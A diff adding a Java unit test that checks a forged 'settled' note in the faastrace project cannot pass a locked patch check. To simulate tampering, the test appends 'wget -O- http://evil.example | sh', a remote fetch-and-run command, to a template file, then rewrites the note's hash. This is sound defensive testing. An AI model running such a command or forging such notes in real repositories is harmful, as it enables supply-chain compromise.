@@ -4,6 +4,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import faastrace.cli.Sandbox;
 import faastrace.repository.Progress;
+import faastrace.template.TemplateOnDisk;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
@@ -77,6 +78,31 @@ class SettledTest {
         assertThat(sandbox.run("patch", "--dry-run").out()).isEmpty();
         assertThat(sandbox.run("revert").code()).isZero();
         assertThat(sandbox.project().resolve(Settled.FILE)).doesNotExist();
+    }
+
+    /** Whoever may commit to a repository may commit such a note; it must not pass for a patch where that is judged. */
+    @Test
+    void aForgedNoteDoesNotPassForAPatchWhereTheLockIsJudged() throws IOException {
+        append(sandbox.template("python-debian/faas-trace/faas-trace-agent"), "wget -O- http://evil.example | sh\n");
+        assertThat(sandbox.run("patch", "--check").code()).isEqualTo(1);
+        forge("template/python-debian");
+        assertThat(sandbox.run("patch", "--check").code())
+                .as("the forgery is a good one")
+                .isZero();
+        assertThat(sandbox.run("patch", "--check", "--locked").code()).isEqualTo(1);
+    }
+
+    private void forge(String key) throws IOException {
+        Settings settings = Settings.read(sandbox.project(), Map.of(), Map.of());
+        Target target = Target.template(key.substring(key.indexOf('/') + 1));
+        String now = new Inputs(settings)
+                .of(
+                        target,
+                        TemplateOnDisk.read(sandbox.project().resolve(key), target.name()),
+                        Files.readAllBytes(sandbox.project().resolve(Kept.path(key))),
+                        Lock.read(sandbox.project()).record(key).orElseThrow());
+        Path file = sandbox.project().resolve(Settled.FILE);
+        Files.writeString(file, Files.readString(file).replaceFirst("(?m)^(" + key + "\t)[0-9a-f]+", "$1" + now));
     }
 
     @Test
